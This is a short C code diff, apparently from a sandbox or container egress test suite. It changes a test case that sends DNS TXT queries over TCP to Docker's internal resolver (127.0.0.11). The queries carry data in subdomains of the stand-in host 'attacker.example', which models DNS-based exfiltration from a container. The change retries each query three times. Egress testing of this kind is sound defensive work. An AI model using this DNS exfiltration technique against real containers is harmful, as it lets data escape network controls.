@@ -14,8 +14,10 @@ static void attempt(const struct target *t, struct attempt *a)
 		errno = ENOENT;
 		failed(a, "no port of 127.0.0.11");
 	}
-	for (size_t i = 0; i < n; i++)
-		dns_tell(t, a, SOCK_STREAM, "127.0.0.11", ports[i], "%s.attacker.example", DNS_TXT);
+	/* dockerd loses some when it is busy; who wants out asks again. */
+	for (size_t i = 0; i < n * 3; i++)
+		dns_tell(t, a, SOCK_STREAM, "127.0.0.11", ports[i % n], "%s.attacker.example",
+			 DNS_TXT);
 }
 
 CASE(dns_engine_port_tcp) = { .title = "docker's resolver by its real TCP port",
